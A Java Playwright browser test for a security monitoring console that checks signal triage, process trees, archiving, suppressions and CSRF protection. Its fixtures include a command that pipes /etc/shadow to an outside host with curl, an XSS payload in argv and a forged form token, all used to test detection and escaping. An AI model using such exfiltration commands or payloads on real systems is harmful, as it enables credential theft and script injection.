package dev.vigil.server.console;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import dev.vigil.detect.signal.Signal;
import dev.vigil.detect.signal.SignalStatus;
import dev.vigil.server.ServerConfig;
import dev.vigil.server.VigilServer;
import dev.vigil.server.store.EntityKind;
import dev.vigil.server.store.SignalQuery;
import dev.vigil.server.users.Role;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The console in a real browser (Debian's Chromium, headless): log in, find the signal a replayed
 * attack raised, open its process tree, archive it with a reason, create a suppression from it
 * and see the next matching event suppressed; an XSS payload in argv stays inert text. Saves
 * screenshots to target/screenshots (docs/screenshots when VIGIL_SCREENSHOTS=docs), which the
 * README shows.
 */
class ConsoleBrowserTest {

    static final ObjectMapper JSON = new ObjectMapper();
    static final String XSS = "<img src=x onerror=\"window.__xss=1\"><script>window.__xss=1</script>";
    static final String PASSWORD = "correct horse battery staple";

    @TempDir static Path dir;
    static VigilServer server;
    static Browser browser;
    static String base;
    static String apiKey;

    @BeforeAll
    static void start() throws Exception {
        server = VigilServer.start(ServerConfig.defaults(dir.resolve("server")).withPort(0));
        base = "http://127.0.0.1:" + server.port();
        apiKey = Files.readString(dir.resolve("server").resolve(VigilServer.INITIAL_KEY_FILE)).trim();
        server.store().users().create("alice", PASSWORD, Role.RESPONDER, "test");
        browser = new Browser();
    }

    @AfterAll
    static void stop() throws Exception {
        if (browser != null) browser.close();
        if (server != null) server.close();
    }

    /** The recorded agent alert (a shell in a container reading /etc/shadow), with {@code argv} and time set. */
    static String alert(String host, String marker, long epochMs) throws IOException {
        ObjectNode a;
        try (InputStream in = ConsoleBrowserTest.class.getResourceAsStream("/console/agent-alert.json")) {
            a = (ObjectNode) JSON.readTree(in);
        }
        ((ObjectNode) a.get("host")).put("name", host);
        long ns = epochMs * 1_000_000L;
        String iso = java.time.Instant.ofEpochMilli(epochMs).toString();
        ((ObjectNode) a.get("alert")).put("time", iso);
        ((ObjectNode) a.get("event")).put("timestamp", ns).put("time", iso);
        ArrayNode argv = ((ObjectNode) a.get("process")).putArray("argv");
        argv.add("-c").add("curl -s -d @- http://203.0.113.7/x < /etc/shadow # " + marker).add(XSS);
        return JSON.writeValueAsString(a);
    }

    /**
     * What the agent ships after the alert (it follows the alerted shell): the shell's child curl
     * and grandchild base64 exec'd, and a decoy whose ancestor has the shell's pid but started
     * before it (a reused pid), which is not part of its tree.
     */
    static String followUp(String host, long epochMs) throws IOException {
        ObjectNode alert;
        try (InputStream in = ConsoleBrowserTest.class.getResourceAsStream("/console/agent-alert.json")) {
            alert = (ObjectNode) JSON.readTree(in);
        }
        ObjectNode shell = (ObjectNode) alert.get("process");
        ArrayNode shellAncestors = (ArrayNode) shell.remove("ancestors");
        ObjectNode curl = exec(shell, 4400, "/usr/bin/curl", "curl -s -d @- http://203.0.113.7/x", epochMs);
        ObjectNode base64 = exec(curl, 4401, "/usr/bin/base64", "base64 -w0", epochMs + 10);
        ObjectNode reused = shell.deepCopy().put("exec_time", shell.path("exec_time").asLong() - 1_000_000_000L);
        ObjectNode decoy = exec(reused, 4500, "/usr/bin/decoy", "decoy", epochMs + 20);
        StringBuilder out = new StringBuilder();
        for (ObjectNode[] e : new ObjectNode[][] {{curl, shell}, {base64, curl, shell}, {decoy, reused}}) {
            ObjectNode line = JSON.createObjectNode();
            long ns = e[0].path("exec_time").asLong();
            line.put("v", 1).putObject("event").put("type", "exec").put("timestamp", ns)
                    .put("time", java.time.Instant.ofEpochSecond(0, ns).toString());
            line.set("host", alert.get("host").deepCopy());
            ((ObjectNode) line.get("host")).put("name", host);
            line.set("container", alert.get("container").deepCopy());
            ObjectNode process = e[0].deepCopy();
            ArrayNode ancestors = process.putArray("ancestors");
            for (int i = 1; i < e.length; i++) ancestors.add(e[i].deepCopy());
            ancestors.addAll(shellAncestors);
            line.set("process", process);
            out.append(JSON.writeValueAsString(line)).append('\n');
        }
        return out.toString().strip();
    }

    private static ObjectNode exec(ObjectNode parent, int pid, String path, String command, long epochMs) {
        ObjectNode p = parent.deepCopy();
        String[] argv = command.split(" ");
        p.put("pid", pid).put("tid", pid).put("ppid", parent.path("pid").asInt()).put("comm", argv[0]).put("argv0", argv[0])
                .put("exec_time", epochMs * 1_000_000L);
        p.putObject("file").put("path", path).put("name", argv[0]);
        ArrayNode a = p.putArray("argv");
        for (int i = 1; i < argv.length; i++) a.add(argv[i]);
        return p;
    }

    static void ingest(String ndjson) throws Exception {
        HttpResponse<String> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(base + "/api/v1/intake/agent"))
                .header("Authorization", "Bearer " + apiKey).header("Content-Type", "application/x-ndjson")
                .POST(HttpRequest.BodyPublishers.ofString(ndjson + "\n")).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).as(r.body()).isEqualTo(202);
    }

    static List<Signal> signals(String host) {
        return server.store().signals().search(SignalQuery.builder().entity(EntityKind.HOST, host).build()).items();
    }

    static Page login(BrowserContext ctx) {
        Page page = ctx.newPage();
        page.onDialog(d -> { throw new AssertionError("a dialog opened: " + d.message()); });
        page.onConsoleMessage(m -> System.out.println("browser console: " + m.type() + " " + m.text()));
        page.onResponse(r -> System.out.println("browser response: " + r.status() + " " + r.request().method() + " " + r.url()));
        page.onRequestFailed(r -> System.out.println("browser request failed: " + r.url() + " " + r.failure()));
        page.navigate("/signals");
        assertThat(page).hasURL(java.util.regex.Pattern.compile(".*/login\\?next=%2Fsignals$"));
        page.getByLabel("User name").fill("alice");
        page.getByLabel("Password").fill(PASSWORD);
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Log in")).click();
        assertThat(page).hasURL(base + "/signals");
        return page;
    }

    @Test
    void triageAReplayedAttackInTheBrowser() throws Exception {
        long now = System.currentTimeMillis();
        String host = "web-prod-3";
        ingest(alert(host, "first", now - 60_000) + "\n" + alert(host, "second", now - 30_000) + "\n" + followUp(host, now - 29_000));
        await().atMost(Duration.ofSeconds(20)).until(() -> signals(host).size() == 1 && signals(host).getFirst().count() == 2);
        await().atMost(Duration.ofSeconds(20)).until(() -> server.eventSearch().search(
                dev.vigil.detect.query.Query.parse("@process.ancestors.pid:4343"), 0, now + 60_000, 0, now + 60_000).total() == 3);
        Signal signal = signals(host).getFirst();

        try (BrowserContext ctx = browser.context(base)) {
            Page page = login(ctx);
            Locator row = page.locator("tr.signal[data-id='" + signal.id() + "']");
            assertThat(row).containsText("A shell or a command run from a shell read a password hash database");
            assertThat(row.locator(".sev")).hasText("high");
            assertThat(page.locator(".facet[data-facet='host']")).containsText(host);
            // the agent policy's "TA0006-credential-access" becomes the bare id signals are filtered by
            assertThat(page.locator(".facet[data-facet='tactic'] .v")).hasText("TA0006");
            screenshot(page, "signals-explorer");

            // the panel: process tree with the triggering shell highlighted, argv shown as text
            row.locator("a.title").click();
            Locator panel = page.locator("#panel .signal-panel");
            assertThat(panel).containsText("TA0006");
            assertThat(page).hasURL(base + "/signals/" + signal.id());
            Locator tree = panel.locator(".process-tree");
            // tini > java > sh (the trigger), then what the shell started: curl, and base64 under it
            assertThat(tree.locator(".tree-list li")).hasCount(5);
            assertThat(tree.locator(".tree-list li.trigger")).containsText("/bin/sh");
            assertThat(tree.locator(".tree-list li.descendant")).hasCount(2);
            assertThat(tree.locator(".tree-list li.descendant.depth-1")).containsText("/usr/bin/curl");
            assertThat(tree.locator(".tree-list li.descendant.depth-1")).containsText("http://203.0.113.7/x");
            assertThat(tree.locator(".tree-list li.descendant.depth-2")).containsText("/usr/bin/base64");
            assertThat(tree).not().containsText("decoy");
            assertThat(tree.locator(".tree-list li.trigger")).containsText(XSS);
            assertThat(panel.locator("#tree-graph")).hasAttribute("data-rendered", "true");
            assertThat(panel.locator("#tree-graph canvas").first()).isVisible();
            assertThat(page.evaluate("() => window.__xss === undefined")).isEqualTo(true);
            assertThat(page.locator("img[src='x']")).hasCount(0);
            screenshot(page, "signal-panel");

            // archive it with a reason
            panel.locator("select[name=status]").selectOption("archived");
            panel.locator("select[name=reason]").selectOption("true_positive");
            panel.locator("input[name=comment]").fill("contained: <b>pod</b> replaced");
            panel.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Set status")).click();
            assertThat(page.locator("#panel .flash")).containsText("Status: archived (true_positive)");
            assertThat(page.locator("#panel .history")).containsText("contained: <b>pod</b> replaced");
            assertThat(page.locator("tr.signal[data-id='" + signal.id() + "'] .status")).hasText("archived");
            Signal archived = server.store().signals().get(signal.id()).orElseThrow();
            assertThat(archived.status()).isEqualTo(SignalStatus.ARCHIVED);
            assertThat(archived.archiveReason().id()).isEqualTo("true_positive");

            // create a suppression from the signal (query pre-filled from its group)
            page.locator("#panel details.suppress summary").click();
            Locator form = page.locator("#panel form.suppress-form");
            String query = form.locator("input[name=query]").inputValue();
            assertThat(query).contains("web-prod-3").contains("shadow_file_read_from_shell");
            form.locator("input[name=description]").fill("the backup job reads it");
            form.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Create suppression")).click();
            assertThat(page.locator("#panel .flash")).containsText("created");

            // the next matching event is suppressed: counted on the suppression, not on a signal
            ingest(alert(host, "third", System.currentTimeMillis()));
            await().atMost(Duration.ofSeconds(20)).until(() ->
                    server.store().suppressions().list().getFirst().suppressedCount() == 1);
            assertThat(signals(host)).hasSize(1);
            assertThat(signals(host).getFirst().count()).isEqualTo(2);
            page.navigate("/suppressions");
            Locator sup = page.locator("tr.suppression").first();
            assertThat(sup).containsText("the backup job reads it");
            assertThat(sup.locator(".suppressed-count")).hasText("1");
            screenshot(page, "suppressions");
            assertThat(page.evaluate("() => window.__xss === undefined")).isEqualTo(true);
        }
    }

    @Test
    void aNewSignalAppearsInTheOpenExplorerWithoutAReload() throws Exception {
        try (BrowserContext ctx = browser.context(base)) {
            Page page = login(ctx);
            page.evaluate("() => { window.__sameDocument = true; }");
            ingest(alert("live-host", "live", System.currentTimeMillis()));
            await().atMost(Duration.ofSeconds(20)).until(() -> !signals("live-host").isEmpty());
            Signal s = signals("live-host").getFirst();
            // the results refresh themselves (every 5 s): the row arrives in the same document
            assertThat(page.locator("tr.signal[data-id='" + s.id() + "']"))
                    .isVisible(new com.microsoft.playwright.assertions.LocatorAssertions.IsVisibleOptions().setTimeout(15_000));
            assertThat(page.evaluate("() => window.__sameDocument === true")).isEqualTo(true);
            assertThat(page).hasURL(base + "/signals");
        }
    }

    @Test
    void aStaleFormTokenChangesNothing() throws Exception {
        long now = System.currentTimeMillis();
        ingest(alert("csrf-host", "csrf", now));
        await().atMost(Duration.ofSeconds(20)).until(() -> !signals("csrf-host").isEmpty());
        Signal s = signals("csrf-host").getFirst();
        try (BrowserContext ctx = browser.context(base)) {
            Page page = login(ctx);
            page.navigate("/signals/" + s.id());
            page.locator("#panel form.comment-form input[name=_csrf]").evaluate("e => e.value = 'forged'");
            // no htmx here: a plain form post, as a forged cross-site form would be
            page.locator("#panel form.comment-form").evaluate("f => { f.removeAttribute('hx-post'); f.submit(); }");
            page.waitForLoadState();
            assertThat(page.locator("body")).containsText("security token");
            assertThat(server.store().signals().history(s.id())).noneMatch(c -> c.field().equals("comment"));
        }
    }

    static void screenshot(Page page, String name) throws IOException {
        Path out = "docs".equals(System.getenv("VIGIL_SCREENSHOTS"))
                ? Path.of(System.getProperty("user.dir")).getParent().resolve("docs/screenshots")
                : Path.of("target/screenshots");
        Files.createDirectories(out);
        page.screenshot(new Page.ScreenshotOptions().setPath(out.resolve(name + ".png")).setFullPage(false));
    }

}
